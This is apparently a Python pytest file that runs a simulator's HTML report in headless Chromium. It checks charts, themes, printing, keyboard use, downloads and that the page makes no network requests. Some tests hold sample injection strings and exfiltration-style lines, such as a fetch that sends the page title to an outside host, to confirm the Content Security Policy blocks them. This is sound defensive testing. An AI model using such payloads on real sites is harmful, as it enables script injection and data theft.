"""Does the report work in a real browser: drawn, silent, alone, in both colours, on a phone, on paper, by keyboard?"""

from __future__ import annotations

import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import NamedTuple
from unicodedata import normalize

import pytest

from lifsim.report.compare.compared import Compared
from lifsim.report.compare.gather import gathered
from lifsim.report.html.beside import Beside
from lifsim.report.html.page import page
from lifsim.report.html.told import Told
from tests.report.html.browser import Browser, chromium, scheme

RUN_CHARTS = ("cycles", "dram", "energy", "buffers", "roofline", "schedule", "timeline")
FILLS = """return [...document.querySelectorAll(`[data-chart='${arguments[0]}'] svg path`)]
  .map(path => path.getAttribute('fill'))"""
NAMED = "return [...document.querySelectorAll('[data-chart=run1-cycles] svg text')].map(text => text.textContent)"
WIDER = """return [...document.querySelectorAll('.chart svg')]
  .filter(svg => svg.getBoundingClientRect().right > innerWidth)"""
CUT = """return [...document.querySelectorAll('.chart svg text')].filter(t => {
  const [a, b] = [t.getBoundingClientRect(), t.ownerSVGElement.getBoundingClientRect()];
  return a.left < b.left - 1 || a.right > b.right + 1 || a.top < b.top - 1 || a.bottom > b.bottom + 1;
}).map(t => t.textContent)"""
PRINTED = """window.widths = []; addEventListener('beforeprint', () => {
  for (const svg of document.querySelectorAll('.chart svg'))
    widths.push([svg.clientWidth, svg.querySelector('text').getAttribute('fill')]) })"""
FIGURES = """return [...document.querySelectorAll('figure')].map(f => [
  f.querySelector('.chart').getAttribute('role'), f.querySelector('.chart').getAttribute('aria-label').length > 5,
  document.getElementById(f.querySelector('.chart').getAttribute('aria-describedby')).textContent.length > 5,
  f.querySelectorAll('tbody tr').length > 0, f.querySelectorAll('caption').length,
  f.querySelectorAll('th[scope]').length > 1])"""
TRIED = (
    ("fetch('https://example.org/?' + document.title)", "connect-src"),
    ("new Image().src = 'https://example.org/a.png'", "img-src"),
    (
        "const s = document.createElement('script'); s.textContent = 'document.title = 1'; document.body.append(s)",
        "script-src-elem",
    ),
    ("document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org></iframe>')", "frame-src"),
)
"""What a script of somebody else's would do, and what of the page's policy forbids it."""
SWATCHES = "return [...document.querySelectorAll('.legend i')].map(i => getComputedStyle(i).printColorAdjust)"
EDGES = """return [...document.querySelectorAll('.cards > div')].map(
  card => [card.getBoundingClientRect().right, card.scrollWidth > card.clientWidth])"""
LIGHT, DARK = "rgb(255, 255, 255)", "rgb(20, 23, 27)"
PAPER = "return getComputedStyle(document.body).backgroundColor"
INK = "return document.querySelector('.chart svg text').getAttribute('fill')"


class Files(NamedTuple):
    one: Path
    several: Path
    hostile: Path
    renamed: Path


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture(scope="module")
def files(shared: Told, hostile: Told, renamed: Told, folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Files:
    """A run, three beside each other, and two with hostile texts."""
    place = tmp_path_factory.mktemp("pages")
    compared: Compared = gathered([folder, folder, folder], None, None, ()).compared()
    three = [replace(shared, label=run.label) for run in compared.runs]
    pages = page([shared]), page(three, Beside.of(compared)), page([hostile]), page([renamed])
    found = Files(*(place / f"{name}.html" for name in Files._fields))
    for file, text in zip(found, pages, strict=True):
        file.write_text(text, encoding="utf-8")
    return found


def test_every_chart_is_drawn_with_all_its_colours(browser: Browser, files: Files) -> None:
    browser.open(files.one)
    assert browser.ask("return document.documentElement.dataset.ready") == "yes"
    data = browser.ask("return JSON.parse(document.getElementById('data').textContent)")
    assert set(data["charts"]) == {f"run1-{name}" for name in RUN_CHARTS}
    for place, chart in data["charts"].items():
        fills = [str(fill).upper() for fill in browser.ask(FILLS, place)]
        parts = chart.get("series") or chart.get("clouds") or [c for panel in chart["panels"] for c in panel["curves"]]
        for one in parts:
            if any(one.get("values") or one.get("points")):
                assert data["palette"][one["colour"]].upper() in fills, (place, one["name"])
    bars = [fill.upper() for fill in browser.ask(FILLS, "run1-cycles") if fill]
    work = data["charts"]["run1-cycles"]["series"][0]
    assert bars.count(data["palette"][0].upper()) == len(work["values"]) == 5


def test_it_says_nothing_and_asks_for_nothing(browser: Browser, files: Files) -> None:
    for file in files:
        browser.open(file)
        assert browser.said == []
        assert browser.requests == [file.as_uri()]


def test_nothing_could_leave_it_if_it_tried(browser: Browser, files: Files) -> None:
    refused = "document.addEventListener('securitypolicyviolation', e => done(e.effectiveDirective));"
    for tried, directive in TRIED:
        browser.open(files.one)
        assert browser.driver.execute_async_script(f"const done = arguments[0]; {refused} {tried}") == directive
        assert browser.ask("return document.title") != "1"
        assert [one for one in browser.requests if one.startswith("http")] == []
    tried = "try { new Function('return 1')(); 'ran' } catch (error) { error.name }"
    found = browser.run("Runtime.evaluate", expression=tried, allowUnsafeEvalBlockedByCSP=False)
    assert found["result"]["value"] == "EvalError"


def test_hostile_texts_are_texts(browser: Browser, files: Files) -> None:
    for file in (files.hostile, files.renamed):
        browser.open(file)
        assert browser.ask("return document.title").endswith("- LIFSim")
        assert browser.ask("return document.querySelectorAll('img, iframe, object').length") == 0
        assert browser.ask("return document.scripts.length") == 3
        assert "onerror=alert(1)>&\"'{{7*7}}{a|b}<!--" in browser.ask("return document.body.innerText")
        assert not set("\u2028\u2029\u202e\x1b") & set(browser.ask("return document.body.textContent"))


def test_names_in_charts_and_beside_the_pointer_are_texts(browser: Browser, files: Files) -> None:
    browser.open(files.renamed)
    named = browser.ask(NAMED)
    assert sum("<script>" in name for name in named) == 5
    box = browser.ask(
        "const b = document.querySelector('[data-chart=run1-cycles]'); b.scrollIntoView();"
        "const r = b.getBoundingClientRect(); return [r.x + r.width * 0.6, r.y + 40]"
    )
    for moved in (0, 3):
        browser.run("Input.dispatchMouseEvent", type="mouseMoved", x=box[0] + moved, y=box[1])
    tip = browser.ask("return document.querySelector('.tip') && document.querySelector('.tip').textContent")
    assert "onerror=alert(1)>" in tip
    assert "array at work" in tip
    assert browser.ask("return document.querySelectorAll('img').length") == 0
    assert browser.said == []


def test_its_colours_are_the_systems_until_they_are_switched(browser: Browser, files: Files) -> None:
    browser.open(files.one, dark=True)
    assert browser.ask(PAPER) == DARK
    assert browser.ask(INK) == "#e8ebee"
    browser.ask("document.getElementById('theme').click()")
    assert browser.ask(PAPER) == LIGHT
    assert browser.ask(INK) == "#1b1f24"
    assert browser.ask("return document.getElementById('theme').textContent") == "Dark colours"
    browser.open(files.one)
    assert browser.ask(PAPER) == LIGHT
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=True)], media="")
    browser.driver.execute_async_script("requestAnimationFrame(() => requestAnimationFrame(arguments[0]))")
    assert browser.ask(PAPER) == DARK
    assert browser.ask(INK) == "#e8ebee"


@pytest.mark.parametrize("width", [360, 768, 1280])
def test_no_page_is_wider_than_its_window(browser: Browser, files: Files, width: int) -> None:
    for file in files:
        browser.open(file, width)
        assert browser.ask("return document.documentElement.scrollWidth") <= width
        assert browser.ask(WIDER) == []


def test_names_of_layers_are_not_cut_where_there_is_room(browser: Browser, files: Files) -> None:
    browser.open(files.one)
    assert browser.ask(CUT) == []
    browser.open(files.one, 360)
    assert browser.ask(CUT) == []
    browser.open(files.renamed)
    assert browser.ask(CUT) == []


def test_charts_follow_the_window(browser: Browser, files: Files) -> None:
    browser.open(files.one)
    browser.resize(500)
    browser.driver.execute_async_script("setTimeout(arguments[0], 200)")
    assert browser.ask("return [...document.querySelectorAll('.chart svg')].every(s => s.clientWidth < 500)")


def test_on_paper_it_is_whole_light_and_as_wide_as_the_paper(browser: Browser, files: Files) -> None:
    pypdf = pytest.importorskip("pypdf")
    browser.open(files.one, dark=True)
    browser.ask(PRINTED)
    reader = pypdf.PdfReader(io.BytesIO(browser.printed()))
    text = normalize("NFKC", " ".join(one.extract_text() for one in reader.pages))  # ligatures as letters
    for words in (
        "Cycles of each layer, by cause",
        "Roofline",
        "The schedule",
        "Where the figures come from",
        "453,126",
    ):
        assert words in text
    assert text.count("conv1") >= 4  # in every chart that has layers
    assert 4 <= len(reader.pages) <= 9
    widths = browser.ask("return window.widths")
    assert len(widths) == len(RUN_CHARTS)
    assert all(width <= 703 and ink == "#1b1f24" for width, ink in widths)  # 186 mm at 96 dots an inch
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=True)], media="print")
    assert browser.ask(PAPER) == LIGHT
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=True)], media="")
    assert browser.ask(INK) == "#e8ebee"  # as it was before


def test_on_paper_swatches_have_their_colours(browser: Browser, files: Files) -> None:
    """Also of a browser that prints no backgrounds."""
    browser.open(files.one, 703)  # 186 mm at 96 dots an inch
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=False)], media="print")
    adjusted = browser.ask(SWATCHES)
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=False)], media="")
    assert len(adjusted) > 20
    assert set(adjusted) == {"exact"}


@pytest.mark.parametrize("width", [640, 703])
def test_on_paper_no_card_reaches_the_edge(browser: Browser, files: Files, width: int) -> None:
    """The borders of what ends there are cut."""
    browser.open(files.one, width)
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=False)], media="print")
    edges = browser.ask(EDGES)
    browser.run("Emulation.setEmulatedMedia", features=[scheme(dark=False)], media="")
    assert edges
    assert all(right <= width - 1 and not wider for right, wider in edges)


def test_it_is_worked_by_keyboard(browser: Browser, files: Files) -> None:
    from selenium.webdriver.common.keys import Keys

    browser.open(files.one)
    before = len(browser.ask(FILLS, "run1-cycles"))
    button = browser.driver.find_element("css selector", "#run1-cycles .legend button")
    button.send_keys(Keys.ENTER)
    after = browser.driver.switch_to.active_element
    assert after.get_attribute("aria-pressed") == "false"
    assert len(browser.ask(FILLS, "run1-cycles")) < before
    after.send_keys(Keys.ENTER)
    assert len(browser.ask(FILLS, "run1-cycles")) == before
    table = browser.driver.find_element("css selector", "#run1-cycles summary")
    table.send_keys(Keys.ENTER)
    assert browser.driver.find_element("css selector", "#run1-cycles table").is_displayed()


def test_every_chart_has_words_and_a_table(browser: Browser, files: Files) -> None:
    browser.open(files.several)
    figures = browser.ask(FIGURES)
    assert len(figures) == 4 + 3 * len(RUN_CHARTS)
    assert all(one == ["img", True, True, True, 1, True] for one in figures)
    ids = browser.ask("return [...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(set(ids)) == len(ids)


def test_runs_beside_each_other_are_drawn_when_they_are_opened(browser: Browser, files: Files) -> None:
    browser.open(files.several)
    count = "return document.querySelectorAll('.chart svg').length"
    assert browser.ask(count) == 4 + len(RUN_CHARTS)
    browser.ask("for (const part of document.querySelectorAll('details.run')) part.open = true")
    browser.driver.execute_async_script("setTimeout(arguments[0], 200)")
    assert browser.ask(count) == 4 + 3 * len(RUN_CHARTS)


def test_files_are_saved_as_they_are(browser: Browser, files: Files, shared: Told, tmp_path: Path) -> None:
    browser.open(files.one)
    browser.run("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(tmp_path))
    wanted = {f"channel2-{name}": text for name, text in shared.files.items()}
    for button in browser.driver.find_elements("css selector", ".downloads button"):
        button.click()
    browser.ask("document.querySelector('#run1-dram details').open = true")
    browser.driver.find_element("css selector", "#run1-dram button.download").click()
    for _ in range(50):
        found = {one.name: one.read_text(encoding="utf-8") for one in tmp_path.iterdir() if one.suffix != ".crdownload"}
        if len(found) == len(wanted) + 1:
            break
        browser.driver.execute_async_script("setTimeout(arguments[0], 100)")
    assert {name: found.get(name) for name in wanted} == wanted
    assert found["run1-dram.csv"].splitlines()[0] == "layer,weights [B],spikes in [B],spikes out [B],total [B]"
